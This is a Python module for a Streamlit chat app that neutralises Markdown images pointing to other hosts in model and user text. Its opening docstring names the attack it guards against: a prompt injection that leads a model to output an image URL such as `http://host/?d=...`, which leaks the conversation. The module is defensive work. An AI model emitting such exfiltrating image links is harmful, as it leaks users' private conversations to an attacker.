"""Markdown from models and users, made unable to make the browser contact another host.

A Markdown image is fetched by the browser as soon as it is drawn: `![x](http://host/?d=...)` in a
reply is how a prompt injection exfiltrates a conversation. Images that point anywhere but the
app itself become a link that names the host (clicking it is the user's choice); raw HTML is
never enabled for this text (Streamlit shows it as text). Code is left as written.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

import streamlit as st

from ui.i18n import _

# Fenced blocks and inline code spans: images there are text, not images.
CODE = re.compile(
    r"(^[ \t]*(?:```|~~~)[^\n]*\n.*?(?:^[ \t]*(?:```|~~~)[ \t]*$|\Z)|`+[^`\n]*`+)", re.M | re.S
)
INLINE_IMAGE = re.compile(
    r"!\[(?P<alt>(?:[^\[\]\\]|\\.|\[[^\]]*\])*)\]"
    r"\(\s*<?(?P<url>[^)\s>]*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)"
)
REFERENCE_IMAGE = re.compile(r"!\[(?P<alt>(?:[^\[\]\\]|\\.)*)\](?:\[(?P<ref>[^\]]*)\])?")
SOFT_BREAK = re.compile(r"(?<=[^\n])[ \t]*\n(?=[^\n])")
DEFINITION = re.compile(r"^[ ]{0,3}\[(?P<ref>[^\]]+)\]:\s*<?(?P<url>\S+?)>?(?:\s.*)?$", re.M)


def own_url(url: str) -> bool:
    """A path on the app itself (not `//host` nor `/\\host`, which browsers read as another
    host), or inline image data."""
    if url.startswith("data:image/"):
        return True
    return url.startswith("/") and url[1:2] not in ("/", "\\") and "\\" not in url


def host_of(url: str) -> str:
    try:
        return urlsplit(url).hostname or url[:40] or _("an unknown address")
    except ValueError:
        return url[:40]


def link_for(alt: str, url: str) -> str:
    label = re.sub(r"[\[\]\\]", "", alt).strip() or _("image")
    host = re.sub(r"[\[\]\\]", "", host_of(url))
    if not url:
        return "[" + _("image not loaded: {label}").format(label=label) + "]"
    shown = _("image not loaded: {label} ({host})").format(label=label, host=host)
    return f"[{shown}](<{url.replace('>', '%3E')}>)"


def defused(text: str) -> str:
    """`text` with every image to another host turned into a link naming that host."""
    parts = CODE.split(text)
    for index in range(0, len(parts), 2):  # even parts are outside code
        parts[index] = defused_prose(parts[index])
    return "".join(parts)


def defused_prose(text: str) -> str:
    if "![" not in text:
        return text
    definitions = {m["ref"].strip().lower(): m["url"] for m in DEFINITION.finditer(text)}
    out, position = [], 0
    for bang in re.finditer(r"!\[", text):
        start = bang.start()
        if start < position or escaped(text, start):
            continue
        out.append(text[position:start])
        if inline := INLINE_IMAGE.match(text, start):
            kept = own_url(inline["url"]) and "![" not in inline["alt"]
            out.append(inline[0] if kept else link_for(inline["alt"], inline["url"]))
            position = inline.end()
        elif reference := REFERENCE_IMAGE.match(text, start):
            key = (reference["ref"] or reference["alt"]).strip().lower()
            out.append(link_for(reference["alt"], definitions.get(key, "")))
            position = reference.end()
        else:  # not an image a pattern knows: with its `!` escaped it is no image at all
            out.append("\\![")
            position = start + 2
    out.append(text[position:])
    return "".join(out)


def escaped(text: str, index: int) -> bool:
    """Whether the character at `index` follows an odd number of backslashes."""
    count = 0
    while index - count - 1 >= 0 and text[index - count - 1] == "\\":
        count += 1
    return count % 2 == 1


def safe_markdown(text: str, container: object = None, hard_breaks: bool = False) -> None:
    """Draw model or user text as Markdown that loads nothing from another host. A user's
    text keeps its line breaks (`hard_breaks`): they typed them to be seen."""
    target = container if container is not None else st
    shown = with_hard_breaks(defused(text)) if hard_breaks else defused(text)
    target.markdown(shown)  # type: ignore[attr-defined]


def with_hard_breaks(text: str) -> str:
    """Each single line break outside code made a Markdown hard break (two spaces before it);
    Markdown otherwise joins the lines into one."""
    parts = CODE.split(text)
    for index in range(0, len(parts), 2):  # even parts are outside code
        parts[index] = SOFT_BREAK.sub("  \n", parts[index])
    return "".join(parts)


def safe_label(text: str) -> str:
    """User text used as a widget label or heading (titles): labels render Markdown, images too."""
    return defused(text)
